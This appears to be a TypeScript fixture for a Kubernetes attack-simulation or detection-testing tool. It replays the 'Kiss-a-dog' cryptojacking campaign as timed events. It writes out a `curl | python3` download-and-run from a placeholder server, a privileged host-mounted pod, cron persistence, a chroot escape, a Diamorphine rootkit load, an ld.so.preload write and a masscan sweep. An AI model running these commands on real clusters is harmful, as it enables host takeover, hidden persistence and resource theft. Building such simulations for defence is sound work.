import { list } from './calls.ts'
import { ANONYMOUS, api, type Campaign, deploy, enter, OTHER, run } from './campaign.ts'
import { mine } from './miner.ts'

export const KISS_A_DOG: Campaign = {
  id: 'kiss-a-dog',
  title: 'Kiss-a-dog: host mount, rootkits, hidden XMRig',
  source: 'CrowdStrike, 2022',
  victim: 'go',
  evasions: ['plain-names'],
  unseen: ['lateral movement to docker and Redis outside of the cluster'],
  rows: (attack) => {
    const { server, evades } = attack
    const line = `curl -s http://${server}/b.py | python3`
    return [
      ['0:00', 1, api(ANONYMOUS, list('pods'), list('nodes'))],
      [
        '0:20',
        1,
        deploy(ANONYMOUS, 'pod', {
          kind: 'Pod',
          namespace: 'default',
          name: evades('plain-names') ? `job-${attack.random.fork('n').suffix(5)}` : `kiss-a-dog${attack.nth}`,
          pods: 1,
          template: {
            labels: {},
            serviceAccount: 'default',
            hostPID: true,
            hostPaths: ['/'],
            containers: [
              {
                name: 'main',
                image: 'docker.io/alpine:3.20',
                securityContext: { privileged: true },
                command: ['/bin/sh', '-c', line],
                process: { binary: '/bin/sh', args: ['-c', line] }
              }
            ]
          }
        })
      ],
      ['0:24', 2, run('pod', `/usr/bin/curl -s http://${server}/b.py`, { to: [[server, 80]] })],
      ['0:30', 2, run('pod', '/usr/bin/tee /host/etc/cron.d/dog', { writes: ['/host/etc/cron.d/dog'] })],
      ['0:50', 3, run('pod', '/usr/sbin/chroot /host /bin/bash', { as: 'host' })],
      ['1:20', 3, run('host', '/sbin/insmod /usr/lib/diamorphine.ko')],
      ['1:30', 3, run('host', '/usr/bin/tee /etc/ld.so.preload', { writes: ['/etc/ld.so.preload'] })],
      ...mine(attack, '2:00', 4, 'host'),
      [
        '4:00',
        5,
        run('pod', '/usr/bin/masscan 10.244.0.0/16 -p6379,2375,10250 --rate 10000', {
          to: Array.from({ length: 24 }, (_, place) => [`10.244.1.${place + 10}`, 6379] as const)
        })
      ],
      ['6:00', 5, enter(OTHER, `/bin/sh -c '${line}'`, { as: 'second' })],
      ['6:01', 5, run('second', `/usr/bin/curl -s http://${server}/b.py`, { to: [[server, 80]] })],
      ...mine(attack, '6:20', 5, 'second')
    ]
  }
}
